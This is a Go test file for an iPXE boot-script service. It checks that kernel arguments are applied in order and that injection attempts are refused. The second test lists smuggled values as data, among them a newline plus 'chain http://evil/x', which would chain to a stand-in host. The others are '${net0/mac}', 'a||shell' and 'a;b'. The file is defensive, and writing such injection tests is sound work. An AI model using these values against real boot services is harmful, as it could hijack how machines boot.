package bootsel_test

import (
	"errors"
	"net/http"
	"strings"
	"testing"

	"github.com/rackboot/rackboot/engine"
)

// An infra-env's kernel arguments reach the iPXE script's kernel line, in
// order: append at the end, replace in place, delete. Changing them
// changes the next script.
func TestKernelArgumentsInIPXEScriptGolden(t *testing.T) {
	e := newEnv(t, nil)
	srv := serve(t, e)
	ka := []engine.KernelArgument{{Operation: "append", Value: "rd.net.timeout.carrier=60"},
		{Operation: "replace", Value: "console=tty0"}, {Operation: "delete", Value: "ignition.platform.id"},
		{Operation: "append", Value: "ignition.platform.id=metal"}, {Operation: "append", Value: "nomodeset"}}
	e.apply(t, &engine.UpdateInfraEnv{ID: ieB, Patch: engine.InfraEnvPatch{KernelArguments: &ka}})
	code, script := get(t, srv, "/boot/"+hexhyp(hostMAC)+"/script.ipxe")
	if code != http.StatusOK {
		t.Fatalf("script: %d %s", code, script)
	}
	golden(t, "kernel-arguments.ipxe", script)

	none := []engine.KernelArgument{}
	e.apply(t, &engine.UpdateInfraEnv{ID: ieB, Patch: engine.InfraEnvPatch{KernelArguments: &none}})
	_, script = get(t, srv, "/boot/"+hexhyp(hostMAC)+"/script.ipxe")
	golden(t, "registered-host.ipxe", script)
}

// Kernel arguments that could inject into the script are refused by the
// domain, whichever door they come through, and change nothing.
func TestKernelArgumentsInjectionRefusedByTheDomain(t *testing.T) {
	e := newEnv(t, nil)
	srv := serve(t, e)
	for _, v := range []string{"a b", "a\nchain http://evil/x", "${net0/mac}", `p="x y"`, "a||shell", "a;b", "x\rboot"} {
		ka := []engine.KernelArgument{{Operation: "append", Value: v}}
		if _, err := e.st.Apply(t.Context(), &engine.UpdateInfraEnv{ID: ieB, Patch: engine.InfraEnvPatch{KernelArguments: &ka}}); !errors.Is(err, engine.ErrInvalid) {
			t.Errorf("kernel argument %q: %v, want ErrInvalid", v, err)
		}
	}
	_, script := get(t, srv, "/boot/"+hexhyp(hostMAC)+"/script.ipxe")
	if strings.Contains(string(script), "evil") || strings.Contains(string(script), "shell") {
		t.Errorf("script:\n%s", script)
	}
	golden(t, "registered-host.ipxe", script)
}
